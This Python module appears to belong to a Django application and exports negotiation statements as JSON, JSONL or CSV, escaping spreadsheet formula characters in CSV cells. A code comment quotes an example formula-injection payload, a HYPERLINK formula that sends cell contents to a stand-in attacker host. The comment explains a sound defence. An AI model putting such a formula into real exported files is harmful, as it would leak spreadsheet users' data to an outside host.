"""Export a negotiation's statements as readers see them (formats.md §3).

Hand corrections are applied (`Statement.effective`) and rejected statements left out. Rows are
written as they are read, so a large negotiation is never held in memory whole. `write_csv` is
the one CSV writer of Parley (the export and the grid and matrix downloads): no text cell it
writes starts with a spreadsheet formula character.
"""

from __future__ import annotations

import csv
import json
from collections.abc import Iterable, Iterator, Sequence
from typing import Any, Protocol

from django.db.models import F

from negotiations.models import Negotiation, Statement

FORMATS = ("json", "jsonl", "csv")
FIELDS = (
    "id",
    "article_url",
    "article_title",
    "article_id",
    "speaker",
    "party",
    "actor",
    "anonymous",
    "said_on",
    "kind",
    "text",
    "cue",
    "rule",
    "issues",
    "start",
    "end",
    "annotated",
    "status",
    "note",
    "confidence",
    "stance",
    "target",
    "proposal",
    "stance_confidence",
)
# Statements read per round of queries: the prefetches run once per chunk.
CHUNK_SIZE = 1000


class Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


def export_statements(negotiation: Negotiation, fmt: str, out: Writable) -> int:
    """Write the negotiation's statements to `out` in `fmt` (json, jsonl or csv); return how many."""
    if fmt not in FORMATS:
        raise ValueError(f"unknown format {fmt!r} (expected one of: {', '.join(FORMATS)})")
    rows = statement_rows(negotiation)
    if fmt == "json":
        return _write_json(rows, out)
    if fmt == "jsonl":
        return _write_jsonl(rows, out)
    return write_csv(rows, FIELDS, out)


def statement_rows(negotiation: Negotiation) -> Iterator[dict[str, Any]]:
    """One dict per visible statement, with the keys of FIELDS, in reading order."""
    statements = (
        Statement.objects.filter(article__negotiation=negotiation)
        .visible()
        .for_display()
        # Articles without a date go last on every database (SQLite would put NULL first).
        .order_by(F("article__published").asc(nulls_last=True), "article_id", "start", "id")
    )
    for statement in statements.iterator(chunk_size=CHUNK_SIZE):
        yield statement_row(statement)


def statement_row(statement: Statement) -> dict[str, Any]:
    """The statement as readers see it, with the keys of FIELDS: the export's row and the API's result."""
    effective = statement.effective
    article = statement.article
    return {
        "id": statement.pk,
        "article_url": article.url,
        "article_title": article.title,
        "article_id": article.external_id or None,
        "speaker": effective.speaker,
        "party": effective.party.name if effective.party else None,
        "actor": effective.actor.name if effective.actor else None,
        "anonymous": effective.anonymous,
        "said_on": effective.said_on.isoformat() if effective.said_on else None,
        "kind": effective.kind,
        # A person cannot change the text yet: the extractor's span is the statement's text.
        "text": statement.text,
        "cue": statement.cue,
        "rule": statement.rule,
        "issues": [issue.name for issue in effective.issues],
        "start": statement.start,
        "end": statement.end,
        "annotated": effective.annotated,
        "status": effective.status,
        "note": effective.note,
        "confidence": statement.confidence,
        "stance": effective.stance,
        "target": effective.target or None,
        "proposal": effective.proposal.name if effective.proposal else None,
        "stance_confidence": statement.stance_confidence,
    }


def _write_json(rows: Iterator[dict[str, Any]], out: Writable) -> int:
    count = 0
    out.write("[")
    for count, row in enumerate(rows, start=1):
        out.write(("\n" if count == 1 else ",\n") + json.dumps(row, ensure_ascii=False))
    out.write("\n]\n" if count else "]\n")
    return count


def _write_jsonl(rows: Iterator[dict[str, Any]], out: Writable) -> int:
    count = 0
    for row in rows:
        out.write(json.dumps(row, ensure_ascii=False) + "\n")
        count += 1
    return count


# A spreadsheet runs a cell that starts with one of these as a formula (=, + and - start
# arithmetic, @ a function in older Excel; a tab or carriage return before them is skipped
# when the file is opened): "=HYPERLINK(\"http://evil.example/?\"&A1)" in an article's text
# would send the sheet's cells away. A leading ' makes the cell text; the JSON keeps the value.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def csv_value(value: Any) -> Any:
    """A JSON-typed value as a CSV cell: none is empty, booleans are words, lists join with "; ",
    and text a spreadsheet would run as a formula starts with an apostrophe."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        value = "; ".join(value)
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def write_csv(rows: Iterable[dict[str, Any]], fields: Sequence[str], out: Writable) -> int:
    """`rows` as CSV with a header of `fields`; return how many rows."""
    writer = csv.writer(out)
    writer.writerow(fields)
    count = 0
    for row in rows:
        writer.writerow([csv_value(row[key]) for key in fields])
        count += 1
    return count
